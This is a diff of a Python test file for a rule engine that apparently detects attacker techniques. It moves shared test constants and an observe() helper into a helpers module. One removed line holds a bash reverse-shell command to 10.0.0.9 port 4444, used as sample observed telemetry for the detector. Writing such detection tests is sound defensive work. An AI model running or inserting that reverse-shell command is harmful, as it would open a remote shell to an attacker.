@@ -19,12 +19,19 @@ from ttprules.models import Rule, RuleState, RuleStateChange, RuleStats, Tag
 from ttprules.schema import parse_rule
 from ttprules.store import set_state
 
-from .engine_helpers import DNS_ANYTHING, REVERSE_SHELL, load_rules, run_engine, write_rule
+from .engine_helpers import (
+    DNS_ANYTHING,
+    HOST,
+    REVERSE_SHELL,
+    SENSOR,
+    SHELL,
+    load_rules,
+    observe,
+    run_engine,
+    write_rule,
+)
 
-SHELL = "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"
-HOST = "stigmem://acme/host/web-1"
 OTHER_HOST = "stigmem://acme/host/db-1"
-SENSOR = "stigmem://acme/agent/sensor"
 ADMIN = "stigmem://test/agent/admin"
 BROKEN = "rule_id: BAD\nrule_version: 0\n"
 
@@ -67,21 +74,6 @@ def rule_dir(tmp_path, db):
 @pytest.fixture
 def reader(make_client):
     return make_client(["read"], entity="stigmem://test/agent/reader")
-
-
-def observe(client, value: str = SHELL, relation: str = "observed:command", entity: str = HOST, **extra) -> dict:
-    body = {
-        "entity": entity,
-        "relation": relation,
-        "value": {"type": "string", "v": value},
-        "source": SENSOR,
-        "confidence": 0.8,
-        "scope": "team",
-        **extra,
-    }
-    response = client.post("/v1/facts", body, format="json")
-    assert response.status_code == 201, response.content
-    return response.json()
 
 
 def snapshot() -> tuple:
